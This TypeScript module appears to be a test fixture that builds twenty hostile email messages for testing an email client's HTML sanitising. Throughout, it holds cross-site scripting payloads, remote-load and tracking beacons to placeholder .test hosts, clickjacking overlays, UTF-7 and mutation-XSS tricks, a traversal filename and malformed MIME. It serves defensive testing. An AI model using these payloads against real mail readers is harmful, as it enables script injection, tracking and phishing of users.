/**
 * Twenty messages that try to run a script or to reach a server when they are looked at. Each names the host it calls,
 * and marks what a script of it did by `OWNED` in the console.
 * @module
 */

export interface HostileMessage {
  readonly name: string;
  readonly content: Uint8Array;
}

const script = `console.log('OWNED');fetch('http://owned.test/')`;
const tag = `<script>${script}</script>`;
const image = `<img src=x onerror="${script}">`;

function html(name: string, body: string, fields: readonly string[] = []): HostileMessage {
  const head = ['From: Mallory <mallory@example.com>', 'To: ann@example.com', `Subject: ${name}`, ...fields];
  return message(name, [...head, 'Content-Type: text/html; charset=utf-8', '', body]);
}

function message(name: string, lines: readonly string[]): HostileMessage {
  return { name, content: Buffer.from(lines.join('\r\n')) };
}

function mixed(name: string, fields: readonly string[], parts: readonly (readonly string[])[]): HostileMessage {
  const body = parts.flatMap((part) => ['--b', ...part]);
  return message(name, [...fields, 'Content-Type: multipart/related; boundary=b', '', ...body, '--b--', '']);
}

export const hostileMessages: readonly HostileMessage[] = [
  message('markup in every field', [
    `From: ${tag} <mallory@example.com>`,
    `To: "${image}" <ann@example.com>`,
    `Subject: </title>${tag}${image}`,
    `Date: ${image}`,
    `X-Field${'"><b>'.replace(/[^!-9;-~]/g, '')}: ${tag}`,
    `Message-ID: <"${tag}"@example.com>`,
    '',
    `</pre>${tag}${image}`,
  ]),
  html('scripts', `${tag}<script src="http://script.test/a.js"></script><script type=module>${script}</script>`),
  html(
    'event handlers',
    `${image}<body onload="${script}"><details open ontoggle="${script}">x</details><svg onload="${script}"/>`,
  ),
  html('an end of the frame', `"></iframe>${tag}'></iframe>${tag}&quot;&gt;&lt;/iframe&gt;${tag}`),
  html(
    'images',
    '<img src="http://image.test/a.png"><img srcset="//image.test/b.png 2x"><input type=image src="http://image.test/c">',
  ),
  html(
    'style sheets',
    '<link rel=stylesheet href="http://style.test/a.css"><style>@import "http://style.test/b.css";body{background:url(http://style.test/c)}@font-face{font-family:f;src:url(http://style.test/f)}*{font-family:f}</style>',
  ),
  html(
    'hints',
    '<link rel=preconnect href="http://hint.test"><link rel=dns-prefetch href="//hint.test"><link rel=prefetch href="http://hint.test/a"><LINK/rel=preload as=image href="http://hint.test/b"><link rel=modulepreload href="http://hint.test/c">',
  ),
  html(
    'a refresh',
    '<meta http-equiv=refresh content="0;url=http://refresh.test/"><base href="http://refresh.test/"><img src=a.png>',
  ),
  html(
    'frames',
    `<iframe src="http://frame.test/"></iframe><iframe srcdoc="${tag.replaceAll('"', '&quot;')}"></iframe><object data="http://frame.test/o"></object><embed src="http://frame.test/e"><frameset><frame src="http://frame.test/f"></frameset>`,
  ),
  html(
    'media',
    '<video autoplay src="http://media.test/v" poster="http://media.test/p"></video><audio autoplay src="http://media.test/a"></audio><video><track default src="http://media.test/t"></video>',
  ),
  html(
    'a link over everything',
    '<a href="http://click.test/" ping="http://click.test/ping" style="position:fixed;inset:0">click</a>',
  ),
  html('a script link over everything', `<a href="javascript:${script}" style="position:fixed;inset:0">click</a>`),
  html(
    'a window over everything',
    '<a href="http://click.test/" target=_blank style="position:fixed;inset:0">click</a>',
  ),
  html('the top over everything', '<a href="http://click.test/" target=_top style="position:fixed;inset:0">click</a>'),
  html(
    'a form over everything',
    '<form action="http://click.test/"><button style="position:fixed;inset:0">click</button></form>',
  ),
  html(
    'SVG and MathML',
    `<svg><use href="http://svg.test/a#b"/><image href="http://svg.test/c"/><foreignObject>${tag}</foreignObject><animate onbegin="${script}" attributeName=x dur=1s /></svg><math><mtext><style>${image}</style></mtext></math>`,
  ),
  html(
    'mutations',
    `<noscript><p title="</noscript>${image}"></noscript><template>${tag}</template><svg><style><img title="</style>${image}"></svg><!--><img src=http://mutation.test/ --!>${image}`,
  ),
  mixed(
    'images of other types',
    ['From: mallory@example.com', 'To: ann@example.com', 'Subject: cid'],
    [
      [
        'Content-Type: text/html',
        '',
        '<img src="cid:page"><iframe src="cid:page"></iframe><img src="cid:svg"><p style="background:url(cid:page)">',
      ],
      [
        'Content-Type: image/svg+xml',
        'Content-ID: <svg>',
        '',
        `<svg xmlns="http://www.w3.org/2000/svg">${tag}<image href="http://cid.test/"/></svg>`,
      ],
      [`Content-Type: text/html; name="\\"><script>${script}</script>"`, 'Content-ID: <page>', '', tag],
      [
        `Content-Disposition: attachment; filename="../../x${tag}.html"`,
        'Content-Type: image/png"><script',
        'Content-ID: "><script>',
        '',
        tag,
      ],
    ],
  ),
  message('another character set', [
    'From: mallory@example.com',
    'Subject: =?utf-7?q?+ADw-script+AD4-?= =?iso-2022-jp?b?GyRCPHNjcmlwdD4=?=',
    'Content-Type: text/html; charset=utf-7',
    '',
    `+ADw-script+AD4-${script}+ADw-/script+AD4-${image}`,
  ]),
  message('broken MIME', [
    'Content-Type: multipart/signed; protocol="application/pkcs7-signature"; boundary="\\"><script>"',
    `Subject: \u202etxt.exe ${tag}`,
    ...Array.from({ length: 40 }, (_, i) => `--b\r\nContent-Type: multipart/mixed; boundary=b${i}\r\n`),
    '',
    `--b39\r\nContent-Type: text/html\r\n\r\n${tag}${image}`,
  ]),
];
